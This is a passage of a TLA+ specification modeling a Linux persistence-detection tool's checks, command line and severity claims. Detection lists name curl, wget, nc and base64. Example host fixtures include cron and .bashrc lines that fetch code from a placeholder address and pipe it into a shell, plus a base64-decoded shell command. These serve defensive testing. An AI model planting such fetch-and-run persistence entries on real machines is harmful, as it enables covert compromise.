        LET flags == _looks_suspicious(content.lines)
            severity == _severity_from(flags)
            evidence ==
                <<Evidence("filesystem", "path", PyStr(a.path)),
                  Evidence("filesystem", "kind", PyStr(a.kind)),
                  Evidence("filesystem", "owner", a.owner),
                  Evidence("filesystem", "snippet", PyStr(JoinLines(Take(content.lines, 80))))>>
                \o (IF flags # <<>>
                    THEN <<Evidence("heuristics", "flags", Reasons(flags))>>
                    ELSE <<>>)
        IN  IF flags = <<>> /\ a.path # "/etc/crontab" THEN <<>>
            ELSE <<Finding("cron.artifacts",
                           "Review cron artifact: " \o a.path,
                           IF flags # <<>> THEN severity ELSE "info",
                           "Module 2 checks cron-related locations for entries that deserve review. Flags are heuristic and not a determination of compromise.",
                           evidence,
                           PyStr("Confirm the artifact's purpose and provenance. If unexpected, disable/remove it per policy, and review referenced scripts/binaries and recent account changes."),
                           <<>>)>>

RECURSIVE CronArtifacts(_, _)
CronArtifacts(h, artifacts) ==
    IF artifacts = <<>> THEN <<>>
    ELSE CronArtifactFindings(h, Head(artifacts)) \o CronArtifacts(h, Tail(artifacts))

\* cron.run: it raises nothing (how is what happens to the `id` command).
cron_run(h, how) ==
    LET artifacts == _collect_system_artifacts(h, how, SYSTEM_CRON_LOCATIONS)
                        \o _collect_user_spool_artifacts(h, how, USER_CRON_SPOOL_DIRS)
    IN  [raised |-> "none",
         findings |->
            IF artifacts = <<>>
            THEN <<Finding("cron.artifacts", "Cron artifacts", "info",
                           "No cron artifacts were found in common locations, or access was restricted.",
                           <<>>, PyNone, <<>>)>>
            ELSE CronArtifacts(h, artifacts)]

----------------------------------------------------------------------------
(* llp/checks/shell_init.py *)

SHELL_INIT_FILES == <<".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile">>

SHELL_SUSPICIOUS_HINTS ==
    <<"/tmp/", "/dev/shm/", "curl ", "wget ", "nc ", "bash -c", "python -c", "base64">>

\* hint.strip(), on the hints of shell_init.py and xdg_autostart.py
Strip(hint) ==
    CASE hint = "curl " -> "curl"
      [] hint = "wget " -> "wget"
      [] hint = "nc " -> "nc"
      [] OTHER -> hint

_scan_file(h, path) ==
    LET text_ == read_text(h, path)
    IN  IF text_ = PyNone \/ text_.lines = <<>> THEN <<>>
        ELSE LET lowered == LowerText(text_.lines)
                 hint == FirstHint(SHELL_SUSPICIOUS_HINTS, lowered)
             IN  (IF hint # 0
                  THEN << <<"medium", "Shell init contains suspicious token: "
                                        \o Strip(SHELL_SUSPICIOUS_HINTS[hint])>> >>
                  ELSE <<>>)
                 \o (IF InText("/.", text_.lines)
                     THEN << <<"low", "Shell init references hidden paths; verify intent">> >>
                     ELSE <<>>)

\* The body of run's loop for one file name: the findings it appends (one or none).
ShellInitFile(h, name) ==
    LET p == h.home \o "/" \o name
        flags == _scan_file(h, p)
        text_ == read_text(h, p)
    IN  IF p \notin h.exists \/ p \notin h.is_file THEN <<>>
        ELSE IF flags = <<>> THEN <<>>
        ELSE <<Finding("shell.init",
                       "Review shell initialization file: " \o name,
                       MaxSeverity(flags),
                       "Shell initialization files execute on login or shell start and are a common persistence surface. Flags are heuristic-only.",
                       <<Evidence("filesystem", "path", PyStr(p)),
                         Evidence("heuristics", "flags", Reasons(flags))>>
                       \o (IF text_ # PyNone /\ text_.lines # <<>>
                           THEN <<Evidence("filesystem", "snippet",
                                           PyStr(JoinLines(Take(text_.lines, 60))))>>
                           ELSE <<>>),
                       PyStr("Verify each command is expected. Remove or comment unexpected entries and review recent user changes."),
                       <<>>)>>

RECURSIVE ShellInitFiles(_, _)
ShellInitFiles(h, names) ==
    IF names = <<>> THEN <<>>
    ELSE ShellInitFile(h, Head(names)) \o ShellInitFiles(h, Tail(names))

\* shell_init.run: it calls no external command and raises nothing.
shell_init_run(h) == [raised |-> "none", findings |-> ShellInitFiles(h, SHELL_INIT_FILES)]

----------------------------------------------------------------------------
(* llp/checks/xdg_autostart.py *)

XDG_AUTOSTART_DIRS(h) == <<h.home \o "/.config/autostart", "/etc/xdg/autostart">>

XDG_SUSPICIOUS_HINTS ==
    <<"/tmp/", "/dev/shm/", "/var/tmp/", "curl ", "wget ", "bash -c", "sh -c", "python -c", "base64">>

_scan_desktop_file(h, path) ==
    LET text_ == read_text(h, path)
    IN  IF text_ = PyNone \/ text_.lines = <<>> THEN <<>>
        ELSE LET lowered == LowerText(text_.lines)
                 exec_lines == SelectSeq(lowered, LAMBDA l : StartsWith(l, "exec="))
                 joined == IF exec_lines # <<>> THEN exec_lines ELSE lowered
                 hint == FirstHint(XDG_SUSPICIOUS_HINTS, joined)
             IN  (IF hint # 0
                  THEN << <<"medium", "Autostart Exec contains suspicious token: "
                                        \o Strip(XDG_SUSPICIOUS_HINTS[hint])>> >>
                  ELSE <<>>)
                 \o (IF InText("/.", joined)
                     THEN << <<"low", "Autostart Exec references hidden paths; verify intent">> >>
                     ELSE <<>>)

\* The body of run's inner loop for one desktop file.
XdgDesktopFile(h, desktop_file) ==
    LET flags == _scan_desktop_file(h, desktop_file)
        text_ == read_text(h, desktop_file)
    IN  IF flags = <<>> THEN <<>>
        ELSE <<Finding("xdg.autostart",
                       "Review XDG autostart entry: " \o PathName(desktop_file),
                       MaxSeverity(flags),
                       "XDG autostart entries execute automatically on desktop login and are a common user-level persistence surface. Flags are heuristic-only.",
                       <<Evidence("filesystem", "path", PyStr(desktop_file)),
                         Evidence("filesystem", "scope",
                                  PyStr(IF StartsWith(desktop_file, h.home) THEN "user" ELSE "system")),
                         Evidence("heuristics", "flags", Reasons(flags))>>
                       \o (IF text_ # PyNone /\ text_.lines # <<>>
                           THEN <<Evidence("filesystem", "snippet",
                                           PyStr(JoinLines(Take(text_.lines, 80))))>>
                           ELSE <<>>),
                       PyStr("Confirm the entry is expected for this system/user. Disable or remove unexpected autostart files and review referenced executables."),
                       <<>>)>>

RECURSIVE XdgDesktopFiles(_, _)
XdgDesktopFiles(h, files) ==
    IF files = <<>> THEN <<>>
    ELSE XdgDesktopFile(h, Head(files)) \o XdgDesktopFiles(h, Tail(files))

\* sorted(base.glob("*.desktop"))
GlobDesktop(h, base_dir) ==
    SelectSeq(IF base_dir \in DOMAIN h.children THEN h.children[base_dir] ELSE <<>>,
              LAMBDA c : EndsWith(c, ".desktop"))

RECURSIVE XdgDirs(_, _)
XdgDirs(h, dirs) ==
    IF dirs = <<>> THEN <<>>
    ELSE LET base_dir == Head(dirs)
         IN  (IF base_dir \notin h.exists \/ base_dir \notin h.is_dir THEN <<>>
              ELSE XdgDesktopFiles(h, GlobDesktop(h, base_dir)))
             \o XdgDirs(h, Tail(dirs))

\* xdg_autostart.run: it calls no external command and raises nothing.
xdg_autostart_run(h) == [raised |-> "none", findings |-> XdgDirs(h, XDG_AUTOSTART_DIRS(h))]

----------------------------------------------------------------------------
(* llp/checks/runtime_process.py *)

RISKY_RUNTIME_PATHS == <<"/tmp/", "/dev/shm/", "/run/user/", "/var/tmp/">>

\* _list_process_exec_paths: the <<pid, exe_path>> pairs of the processes whose
\* exe link resolves, in the order /proc lists them.
_list_process_exec_paths(h) == IF h.proc_exists THEN h.procs ELSE <<>>

_runtime_flags(exe_path) ==
    IF \E i \in 1..Len(RISKY_RUNTIME_PATHS) : StartsWith(exe_path, RISKY_RUNTIME_PATHS[i])
    THEN LET i == CHOOSE i \in 1..Len(RISKY_RUNTIME_PATHS) :
                     /\ StartsWith(exe_path, RISKY_RUNTIME_PATHS[i])
                     /\ \A k \in 1..(i - 1) : ~StartsWith(exe_path, RISKY_RUNTIME_PATHS[k])
         IN  << <<"high", "Process executing from risky runtime path: " \o RISKY_RUNTIME_PATHS[i]>> >>
    ELSE IF In("/.", exe_path)
    THEN << <<"medium", "Process executable located in hidden directory">> >>
    ELSE <<>>

\* The body of run's loop for one process.
RuntimeProcess(pid, exe_path) ==
    LET flags == _runtime_flags(exe_path)
    IN  IF flags = <<>> THEN <<>>
        ELSE <<Finding("runtime.process",
                       "Review runtime process: PID " \o ToString(pid),
                       MaxSeverity(flags),
                       "Process executable path suggests runtime-only or memory-backed execution. This can indicate ephemeral or fileless persistence techniques.",
                       <<Evidence("procfs", "pid", PyInt(pid)),
                         Evidence("procfs", "exe", PyStr(exe_path)),
                         Evidence("heuristics", "flags", Reasons(flags))>>,
                       PyStr("Verify process legitimacy and parent chain. If unexpected, terminate the process and investigate how it was launched."),
                       <<>>)>>

RECURSIVE RuntimeProcesses(_)
RuntimeProcesses(processes) ==
    IF processes = <<>> THEN <<>>
    ELSE RuntimeProcess(Head(processes)[1], Head(processes)[2])
            \o RuntimeProcesses(Tail(processes))

\* runtime_process.run: it calls no external command and raises nothing.
runtime_process_run(h) ==
    [raised |-> "none", findings |-> RuntimeProcesses(_list_process_exec_paths(h))]

----------------------------------------------------------------------------
(* Hosts: what the commands print and what the filesystem holds *)

EXEC_OK == "{ path=/usr/bin/backup ; argv[]=/usr/bin/backup --daily ; ignore_errors=no }"

EXEC_TMP == "{ path=/tmp/.u/agent ; argv[]=/tmp/.u/agent ; ignore_errors=no }"

EXEC_CACHE == "{ path=/bin/sh ; argv[]=/bin/sh -c /home/u/.cache/sync.sh ; ignore_errors=no }"

EXEC_RSYSLOG == "{ path=/usr/sbin/rsyslogd ; argv[]=/usr/sbin/rsyslogd -n -iNONE ; ignore_errors=no }"

\* What a completed command returned and printed.
Proc(rc, out) == [rc |-> rc, out |-> out]

\* A host with systemd installed but no service unit, no cron artifact, no shell
\* initialization file, no autostart directory, and no /proc.
HostBare ==
    [unit_files |-> [scope \in {"system", "user"} |-> <<>>],
     show |-> <<>>,
     is_enabled |-> <<>>,
     split |-> ("" :> <<>>),
     exists |-> {},
     is_file |-> {},
     is_dir |-> {},
     children |-> <<>>,
     text |-> <<>>,
     stat |-> <<>>,
     id_name |-> <<>>,
     home |-> "/home/u",
     proc_exists |-> FALSE,
     procs |-> <<>>]

\* A host in ordinary use: a local backup service, rsyslog with its alias
\* syslog.service and a drop-in, a stock /etc/crontab, a cron.d file that
\* fetches a URL, a .profile, a system autostart entry, one ordinary process.
HostTypical ==
    [unit_files |->
        [scope \in {"system", "user"} |->
            IF scope = "system"
            THEN << <<"rsyslog.service", "enabled", "enabled">>,
                    <<"backup.service", "enabled", "enabled">>,
                    <<"syslog.service", "alias", "-">> >>
            ELSE <<>>],
     show |->
        ("backup.service" :>
            << <<"FragmentPath", "/etc/systemd/system/backup.service">>,
               <<"ExecStart", EXEC_OK>>,
               <<"DropInPaths", "">> >>)
        @@ ("rsyslog.service" :>
            << <<"FragmentPath", "/lib/systemd/system/rsyslog.service">>,
               <<"ExecStart", EXEC_RSYSLOG>>,
               <<"DropInPaths", "/etc/systemd/system/rsyslog.service.d/override.conf">> >>)
        @@ ("syslog.service" :>
            << <<"FragmentPath", "/lib/systemd/system/rsyslog.service">>,
               <<"ExecStart", EXEC_RSYSLOG>>,
               <<"DropInPaths", "/etc/systemd/system/rsyslog.service.d/override.conf">> >>),
     is_enabled |->
        ("backup.service" :> Proc(0, "enabled"))
        @@ ("rsyslog.service" :> Proc(0, "enabled"))
        @@ ("syslog.service" :> Proc(0, "alias")),
     split |->
        ("" :> <<>>)
        @@ ("/etc/systemd/system/rsyslog.service.d/override.conf" :>
                <<"/etc/systemd/system/rsyslog.service.d/override.conf">>),
     exists |->
        {"/etc/systemd/system/backup.service", "/lib/systemd/system/rsyslog.service",
         "/etc/systemd/system/rsyslog.service.d/override.conf",
         "/etc/crontab", "/etc/cron.d", "/etc/cron.d/fetch",
         "/home/u/.profile", "/etc/xdg/autostart",
         "/etc/xdg/autostart/print-applet.desktop"},
     is_file |->
        {"/etc/systemd/system/backup.service", "/lib/systemd/system/rsyslog.service",
         "/etc/systemd/system/rsyslog.service.d/override.conf",
         "/etc/crontab", "/etc/cron.d/fetch", "/home/u/.profile",
         "/etc/xdg/autostart/print-applet.desktop"},
     is_dir |-> {"/etc/cron.d", "/etc/xdg/autostart"},
     children |->
        ("/etc/cron.d" :> <<"/etc/cron.d/fetch">>)
        @@ ("/etc/xdg/autostart" :> <<"/etc/xdg/autostart/print-applet.desktop">>),
     text |->
        ("/etc/systemd/system/backup.service" :>
            <<"[Service]", "ExecStart=/usr/bin/backup --daily">>)
        @@ ("/lib/systemd/system/rsyslog.service" :>
            <<"[Service]", "ExecStart=/usr/sbin/rsyslogd -n -iNONE">>)
        @@ ("/etc/crontab" :>
            <<"17 * * * * root cd / && run-parts --report /etc/cron.hourly">>)
        @@ ("/etc/cron.d/fetch" :>
            <<"*/5 * * * * root curl -s HTTP://198.51.100.7/x | sh">>)
        @@ ("/home/u/.profile" :> <<"export PATH=$HOME/.local/bin:$PATH">>)
        @@ ("/etc/xdg/autostart/print-applet.desktop" :>
            <<"[Desktop Entry]", "Exec=/usr/bin/print-applet", "Comment=see ~/.config/print">>),
     stat |-> ("/etc/crontab" :> 0) @@ ("/etc/cron.d/fetch" :> 0),
     id_name |-> (0 :> Proc(0, "root")),
     home |-> "/home/u",
     proc_exists |-> TRUE,
     procs |-> << <<1, "/usr/sbin/cron">> >>]

\* A host that deserves review: a system unit without a unit file that starts a
\* program under /tmp, an enabled user unit, an unreadable cron.d file, a
\* spool crontab owned by a uid `id` does not know, a .bashrc that pipes curl
\* into a shell, a user autostart entry, processes running from /tmp, from a
\* hidden directory and from /dev/shm.
HostSuspicious ==
    [unit_files |->
        [scope \in {"system", "user"} |->
            IF scope = "system"
            THEN << <<"ghost.service", "enabled", "enabled">> >>
            ELSE << <<"sync.service", "enabled", "enabled">> >>],
     show |->
        ("ghost.service" :>
            << <<"FragmentPath", "">>,
               <<"ExecStart", EXEC_TMP>>,
               <<"DropInPaths", "">> >>)
        @@ ("sync.service" :>
            << <<"FragmentPath", "/home/u/.config/systemd/user/sync.service">>,
               <<"ExecStart", EXEC_CACHE>>,
               <<"DropInPaths", "">> >>),
     is_enabled |->
        ("ghost.service" :> Proc(0, "enabled"))
        @@ ("sync.service" :> Proc(0, "enabled")),
     split |-> ("" :> <<>>),
     exists |->
        {"/home/u/.config/systemd/user/sync.service",
         "/etc/crontab", "/etc/cron.d", "/etc/cron.d/locked",
         "/var/spool/cron", "/var/spool/cron/crontabs", "/var/spool/cron/crontabs/u",
         "/home/u/.bashrc", "/home/u/.config/autostart",
         "/home/u/.config/autostart/notes.txt",
         "/home/u/.config/autostart/updater.desktop"},
     is_file |->
        {"/home/u/.config/systemd/user/sync.service",
         "/etc/crontab", "/etc/cron.d/locked", "/var/spool/cron/crontabs/u", "/home/u/.bashrc",
         "/home/u/.config/autostart/notes.txt",
         "/home/u/.config/autostart/updater.desktop"},
     is_dir |-> {"/etc/cron.d", "/var/spool/cron", "/var/spool/cron/crontabs", "/home/u/.config/autostart"},
     children |->
        ("/etc/cron.d" :> <<"/etc/cron.d/locked">>)
        @@ ("/var/spool/cron" :> <<"/var/spool/cron/crontabs">>)
        @@ ("/var/spool/cron/crontabs" :> <<"/var/spool/cron/crontabs/u">>)
        @@ ("/home/u/.config/autostart" :>
                <<"/home/u/.config/autostart/notes.txt",
                  "/home/u/.config/autostart/updater.desktop">>),
     text |->
        ("/home/u/.config/systemd/user/sync.service" :>
            <<"[Service]", "ExecStart=/bin/sh -c /home/u/.cache/sync.sh">>)
        @@ ("/etc/crontab" :>
            <<"17 * * * * root cd / && run-parts --report /etc/cron.hourly">>)
        @@ ("/var/spool/cron/crontabs/u" :>
            <<"@reboot /tmp/.u/agent", "0 3 * * * echo aGk= | base64 -d | sh">>)
        @@ ("/home/u/.bashrc" :>
            <<"alias ll='ls -l'", "curl -s https://198.51.100.7/i | bash -c 'cat'">>)
        @@ ("/home/u/.config/autostart/updater.desktop" :>
            <<"[Desktop Entry]", "Name=Updater", "Exec=/tmp/.u/agent --quiet">>),
     stat |-> ("/etc/crontab" :> 0) @@ ("/etc/cron.d/locked" :> 0) @@ ("/var/spool/cron/crontabs/u" :> 1001),
     id_name |-> (0 :> Proc(0, "root")) @@ (1001 :> Proc(1, "")),
     home |-> "/home/u",
     proc_exists |-> TRUE,
     procs |-> << <<7, "/tmp/x">>, <<8, "/home/u/.local/bin/agent">>, <<9, "/dev/shm/.k">> >>]

\* What the same machine as HostSuspicious holds after the program in /tmp/x
\* was started again: the same executables, /tmp/x under another PID.
HostSuspiciousRestarted ==
    [HostSuspicious EXCEPT
        !.procs = << <<12, "/tmp/x">>, <<8, "/home/u/.local/bin/agent">>, <<9, "/dev/shm/.k">> >>]

Hosts == {HostBare, HostTypical, HostSuspicious, HostSuspiciousRestarted}

----------------------------------------------------------------------------
(* llp/cli.py: main, the command line *)

\* The longest --checks list, counted in comma-separated names.
MaxChecks == 2

\* The pieces of a --checks argument between its commas.
CheckTokens ==
    {"all", "systemd", "cron", "shell_init", "xdg_autostart", "runtime_process", "", " Cron"}

\* c.strip().lower()
StripLower(c) ==
    CASE c = " Cron" -> "cron"
      [] c \in CheckTokens \ {" Cron"} -> c

\* args.checks.split(","): at least one piece, the empty one for --checks "".
CheckLists == UNION {[1..n -> CheckTokens] : n \in 1..MaxChecks}

\* What parse_args returns: checks is args.checks already split at its commas.
Args ==
    [checks : CheckLists,
     format : {"text", "json"},
     baseline_save : {PyNone, PyStr("base.json")},
     baseline_compare : {PyNone, PyStr("old.json")}]

\* `if x:` on an optional path
Truthy(x) == x # PyNone /\ x.v # ""

\* main is entered with a parsed command line, on some host.
RunInit ==
    /\ pc = "main"
    /\ fa = Nil
    /\ fb = Nil
    /\ ida = Nil
    /\ idb = Nil
    /\ findings = <<>>
    /\ version = Nil
    /\ base = Nil
    /\ text = Nil
    /\ old = Nil
    /\ diff = Nil
    /\ selected = Nil
    /\ host \in Hosts
    /\ ran = <<>>
    /\ raised = "none"
    /\ args \in Args
    /\ printed = <<>>
    /\ exit_code = Nil

\* selected = {c.strip().lower() for c in args.checks.split(",") if c.strip()},
\* then _run_checks(selected) is entered.
ParseChecks ==
    /\ pc = "main"
    /\ selected' = {StripLower(args.checks[i]) : i \in 1..Len(args.checks)} \ {""}
    /\ pc' = "systemd"
    /\ UNCHANGED <<findings, idVars, baseVars, host, ran, raised, args, printed, exit_code>>

----------------------------------------------------------------------------
(* llp/cli.py: _run_checks *)

\* The names --checks accepts.
CheckNames == {"all", "systemd", "cron", "shell_init", "xdg_autostart", "runtime_process"}

\* The order in which _run_checks tests and runs the checks.
CheckOrder == <<"systemd", "cron", "shell_init", "xdg_autostart", "runtime_process">>

\* name in selected, without run_all
IsSelected_named(sel, name) == name \in sel

\* run_all or name in selected
IsSelected(sel, name) == "all" \in sel \/ sel = {} \/ name \in sel

\* The position after the `if` of the check called name.
After(name) ==
    CASE name = "systemd" -> "cron"
      [] name = "cron" -> "shell_init"
      [] name = "shell_init" -> "xdg_autostart"
      [] name = "xdg_autostart" -> "runtime_process"
      [] name = "runtime_process" -> "checked"

\* findings.extend(check.run()): the call returns and its findings are appended,
\* or it raises and the exception leaves _run_checks and main, which catch
\* nothing: the run ends there.
Extend(name, r) ==
    /\ IF r.raised = "none"
       THEN /\ findings' = findings \o r.findings
            /\ ran' = Append(ran, [check |-> name, raised |-> "none", returned |-> r.findings])
            /\ pc' = After(name)
            /\ raised' = raised
       ELSE /\ findings' = findings
            /\ ran' = Append(ran, [check |-> name, raised |-> r.raised, returned |-> <<>>])
            /\ pc' = "raised"
            /\ raised' = r.raised
    /\ UNCHANGED <<idVars, baseVars, selected, host, args, printed, exit_code>>

\* how: what happens to the systemctl commands of each kind during this run.
SystemdRun ==
    /\ pc = "systemd"
    /\ IsSelected(selected, "systemd")
    /\ \E how \in [{"list-unit-files", "show", "is-enabled"} -> CmdOutcomes] :
            Extend("systemd", systemd_run(host, how))

\* how: what happens to the `id` commands during this run.
CronRun ==
    /\ pc = "cron"
    /\ IsSelected(selected, "cron")
    /\ \E how \in CmdOutcomes : Extend("cron", cron_run(host, how))

ShellInitRun ==
    /\ pc = "shell_init"
    /\ IsSelected(selected, "shell_init")
    /\ Extend("shell_init", shell_init_run(host))

XdgAutostartRun ==
    /\ pc = "xdg_autostart"
    /\ IsSelected(selected, "xdg_autostart")
    /\ Extend("xdg_autostart", xdg_autostart_run(host))

RuntimeProcessRun ==
    /\ pc = "runtime_process"
    /\ IsSelected(selected, "runtime_process")
    /\ Extend("runtime_process", runtime_process_run(host))

\* The `if` of a check that is not selected: nothing runs.
SkipCheck ==
    /\ \E i \in 1..Len(CheckOrder) : pc = CheckOrder[i]
    /\ ~IsSelected(selected, pc)
    /\ pc' = After(pc)
    /\ UNCHANGED <<findings, idVars, baseVars, runVars>>

----------------------------------------------------------------------------
(* llp/core/output.py *)

\* to_json(findings): json.dumps([f.to_dict() for f in findings], ...)
output_to_json(fs) == json_dumps(PyList([i \in 1..Len(fs) |-> to_dict(fs[i])]))

\* f.severity.upper()
Upper(s) ==
    CASE s = "info" -> "INFO"
      [] s = "low" -> "LOW"
      [] s = "medium" -> "MEDIUM"
      [] s = "high" -> "HIGH"

\* The longest evidence value to_text prints whole.
TextValueLimit == 200

\* s[:200]: s itself when it is no longer than that.
Clip(s) == CASE Len(s) <= TextValueLimit -> s

\* The lines to_text appends for one finding.
TextLines(f) ==
    <<"[" \o Upper(f.severity) \o "] " \o f.title, "  " \o f.description>>
    \o [k \in 1..Len(Take(f.evidence, 8)) |->
            "  - " \o f.evidence[k].source \o ":" \o f.evidence[k].key \o " = "
                \o Clip(Str(f.evidence[k].value))]
    \o (IF f.remediation # PyNone /\ f.remediation.v # ""
        THEN <<"  Remediation: " \o f.remediation.v>>
        ELSE <<>>)
    \o <<"">>

RECURSIVE AllTextLines(_)
AllTextLines(fs) ==
    IF fs = <<>> THEN <<>> ELSE TextLines(Head(fs)) \o AllTextLines(Tail(fs))

\* to_text(findings): "\n".join(lines).rstrip(); the lines end with the empty
\* line of the last finding, which rstrip removes.
to_text(fs) ==
    LET lines == AllTextLines(fs)
    IN  IF lines = <<>> THEN "" ELSE JoinLines(SubSeq(lines, 1, Len(lines) - 1))

----------------------------------------------------------------------------
(* llp/cli.py: main, the terminal modes *)

\* A line print() wrote.
Line(s) == [kind |-> "text", v |-> s]

\* A JSON document print() wrote.
Json(doc) == [kind |-> "json", v |-> doc]

HexDigits == <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "a", "b", "c", "d", "e", "f">>

\* The 16 characters of an identifier.
RECURSIVE HexStr(_)
HexStr(id) == IF id = <<>> THEN "" ELSE HexDigits[Head(id) + 1] \o HexStr(Tail(id))

\* The dict diff_baseline returns, as json.dumps sees it.
DiffDict(d) ==
    PyDict([added |-> PyList(d.added),
            removed |-> PyList(d.removed),
            changed |-> PyList([k \in 1..Len(d.changed) |->
                            PyDict([id |-> PyStr(HexStr(d.changed[k].id)),
                                    old |-> d.changed[k].old,
                                    new |-> d.changed[k].new])])])

\* What a run of every check finds on a host when every command works.
FullRun(h) ==
    systemd_run(h, [c \in {"list-unit-files", "show", "is-enabled"} |-> "ok"]).findings
        \o cron_run(h, "ok").findings
        \o shell_init_run(h).findings
        \o xdg_autostart_run(h).findings
        \o runtime_process_run(h).findings

\* No file at the path; a file that is not JSON.
MissingFile == [j |-> "missing"]

MalformedFile == [j |-> "malformed"]

\* What --baseline-compare can find at its path: nothing, a file that is not
\* JSON, a document of another origin, or the baseline an earlier
\* `llp --baseline-save` wrote on some host.
BaselineFiles ==
    {MissingFile, MalformedFile}
        \cup ExternalDocs
        \cup {to_json(make_baseline(FullRun(h), PyStr("0.1.0"))) : h \in Hosts}

\* `if args.baseline_save:` is the first test after the checks.
SaveChosen(a) == Truthy(a.baseline_save)

\* `if args.baseline_compare:` with the test before it left out.
CompareChosen_ignoringSave(a) == Truthy(a.baseline_compare)

\* `if args.baseline_compare:` is reached only when the save branch, which
\* returns, was not taken.
CompareChosen(a) == ~SaveChosen(a) /\ Truthy(a.baseline_compare)

\* if args.baseline_save: make the baseline, write it, print the confirmation,
\* return 0.  write_text raises OSError when the path cannot be written.
Save ==
    /\ pc = "checked"
    /\ SaveChosen(args)
    /\ \E written \in BOOLEAN :
          IF written
          THEN /\ version' = "0.1.0"
               /\ base' = make_baseline(findings, PyStr("0.1.0"))
               /\ text' = to_json(base')
               /\ printed' = Append(printed, Line("Baseline written to: " \o args.baseline_save.v))
               /\ exit_code' = 0
               /\ pc' = "saved"
               /\ raised' = raised
          ELSE /\ version' = "0.1.0"
               /\ base' = make_baseline(findings, PyStr("0.1.0"))
               /\ pc' = "raised"
               /\ raised' = "OSError"
               /\ UNCHANGED <<text, printed, exit_code>>
    /\ UNCHANGED <<findings, idVars, old, diff, selected, host, ran, args>>

\* if args.baseline_compare: read the file, load it, diff, print, return 0.
\* read_text raises when there is no file, json.loads when the text is not
\* JSON, from_json when the document is not an object (.get), diff_baseline
\* when its "findings" is not a mapping (.keys()).
Compare ==
    /\ pc = "checked"
    /\ CompareChosen(args)
    /\ \E file \in BaselineFiles :
          CASE file = MissingFile ->
                  /\ pc' = "raised"
                  /\ raised' = "FileNotFoundError"
                  /\ UNCHANGED <<text, old, diff, printed, exit_code>>
            [] file = MalformedFile ->
                  /\ text' = file
                  /\ pc' = "raised"
                  /\ raised' = "JSONDecodeError"
                  /\ UNCHANGED <<old, diff, printed, exit_code>>
            [] file \notin {MissingFile, MalformedFile} /\ json_loads(file).t # "dict" ->
                  /\ text' = file
                  /\ pc' = "raised"
                  /\ raised' = "AttributeError"
                  /\ UNCHANGED <<old, diff, printed, exit_code>>
            [] file \notin {MissingFile, MalformedFile} /\ json_loads(file).t = "dict" ->
                  /\ text' = file
                  /\ old' = from_json(file)
                  /\ IF old'.findings.t = "dict"
                     THEN /\ diff' = diff_baseline(old', findings)
                          /\ printed' = Append(printed, Json(json_dumps(DiffDict(diff'))))
                          /\ exit_code' = 0
                          /\ pc' = "compared"
                          /\ raised' = raised
                     ELSE /\ pc' = "raised"
                          /\ raised' = "AttributeError"
                          /\ UNCHANGED <<diff, printed, exit_code>>
    /\ UNCHANGED <<findings, idVars, version, base, selected, host, ran, args>>

\* print(to_json(findings) if args.format == "json" else to_text(findings)); return 0
Render ==
    /\ pc = "checked"
    /\ ~SaveChosen(args)
    /\ ~CompareChosen(args)
    /\ printed' = Append(printed, IF args.format = "json"
                                  THEN Json(output_to_json(findings))
                                  ELSE Line(to_text(findings)))
    /\ exit_code' = 0
    /\ pc' = "rendered"
    /\ UNCHANGED <<findings, idVars, baseVars, selected, host, ran, raised, args>>

RunNext ==
    \/ ParseChecks
    \/ SystemdRun
    \/ CronRun
    \/ ShellInitRun
    \/ XdgAutostartRun
    \/ RuntimeProcessRun
    \/ SkipCheck
    \/ Save
    \/ Compare
    \/ Render

SpecRun == RunInit /\ [][RunNext]_vars

----------------------------------------------------------------------------
(* Claims about failures of external commands *)

\* C10: a command that times out or whose executable is missing never makes a
\* check raise: no exception leaves a check, so no run ends before every
\* selected check has run.  The program violates it: systemd.run hands on the
\* exception run_cmd lets through.
C10_FailuresNeverPropagate ==
    /\ raised = "none"
    /\ pc # "raised"

----------------------------------------------------------------------------
(* Claims about the severity of a finding *)

\* info < low < medium < high
SeverityOrder == <<"info", "low", "medium", "high">>

\* The place of a severity in the order.
SeverityIndex(s) == CHOOSE i \in 1..Len(SeverityOrder) : SeverityOrder[i] = s

\* The <<check_id, severity, reason>> of every flag a check can append.
FlagTable ==
    {<<"systemd.units", "low", "Enabled user-level service">>,
     <<"systemd.units", "low", "Service has drop-in override snippets">>,
     <<"systemd.units", "medium", "Enabled unit from local override directory">>,
     <<"systemd.units", "medium", "Enabled unit in user config directory">>,
     <<"systemd.units", "info", "FragmentPath unavailable">>,
     <<"systemd.units", "high", "Executable path in temp or memory-backed directory">>,
     <<"cron.artifacts", "medium", "Cron content includes URL(s); review for unexpected network retrieval.">>,
     <<"cron.artifacts", "low", "Cron content references 'base64'; verify intent and source.">>,
     <<"cron.artifacts", "low", "Cron references hidden path(s) (dot-files/dirs); verify intent.">>,
     <<"shell.init", "low", "Shell init references hidden paths; verify intent">>,
     <<"xdg.autostart", "low", "Autostart Exec references hidden paths; verify intent">>,
     <<"runtime.process", "medium", "Process executable located in hidden directory">>}
    \cup {<<"systemd.units", "medium", "ExecStart references risky path: " \o SUSPICIOUS_PATH_HINTS[i]>> :
            i \in 1..Len(SUSPICIOUS_PATH_HINTS)}
    \cup {<<"cron.artifacts", "medium", "Cron references potentially risky location: " \o SUSPICIOUS_PATH_HINTS[i]>> :
            i \in 1..Len(SUSPICIOUS_PATH_HINTS)}
    \cup {<<"shell.init", "medium", "Shell init contains suspicious token: " \o Strip(SHELL_SUSPICIOUS_HINTS[i])>> :
            i \in 1..Len(SHELL_SUSPICIOUS_HINTS)}
    \cup {<<"xdg.autostart", "medium", "Autostart Exec contains suspicious token: " \o Strip(XDG_SUSPICIOUS_HINTS[i])>> :
            i \in 1..Len(XDG_SUSPICIOUS_HINTS)}
    \cup {<<"runtime.process", "high", "Process executing from risky runtime path: " \o RISKY_RUNTIME_PATHS[i]>> :
            i \in 1..Len(RISKY_RUNTIME_PATHS)}

\* The severities of the flags whose reasons a finding shows in its "flags"
\* evidence; the empty set for a finding built from no flag.
FlagSeverities(f) ==
    {row[2] : row \in {row \in FlagTable :
        /\ row[1] = f.check_id
        /\ \E k \in 1..Len(f.evidence) :
              /\ f.evidence[k].source = "heuristics"
              /\ f.evidence[k].key = "flags"
              /\ \E j \in 1..Len(f.evidence[k].value.v) : f.evidence[k].value.v[j].v = row[3]}}

\* C11: the severity of every finding of a run that was built from flags is the
\* greatest of the flags' severities under info < low < medium < high, and a
\* cron finding built from no flag has severity "info".
C11_SeverityIsMaximum ==
    \A i \in 1..Len(findings) :
        LET f == findings[i]
            sevs == FlagSeverities(f)
        IN  IF sevs # {}
            THEN /\ f.severity \in sevs
